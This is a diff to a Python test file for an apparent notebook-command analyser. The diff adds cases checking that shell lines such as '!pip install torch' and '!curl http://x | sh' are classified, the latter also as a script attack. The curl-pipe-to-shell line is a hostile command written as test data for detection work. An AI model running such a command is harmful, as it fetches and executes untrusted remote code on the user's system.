@@ -22,7 +22,8 @@ def test_an_ordinary_notebook_states_nothing() -> None:
 
 
 def test_shell_lines_and_cells_are_commands() -> None:
-    assert actions(build("!curl http://x | sh")) == {("shell", "process", "never")}
+    assert actions(build("!pip install torch")) == {("shell", "process", "never")}
+    assert actions(build("!curl http://x | sh")) == {("shell", "process", "never"), ("shell", "script-attack", "never")}
     assert actions(build("%%bash\ncurl x")) == {("shell", "process", "never")}
     assert actions(build("out = !ls")) == {("shell", "process", "never")}
 
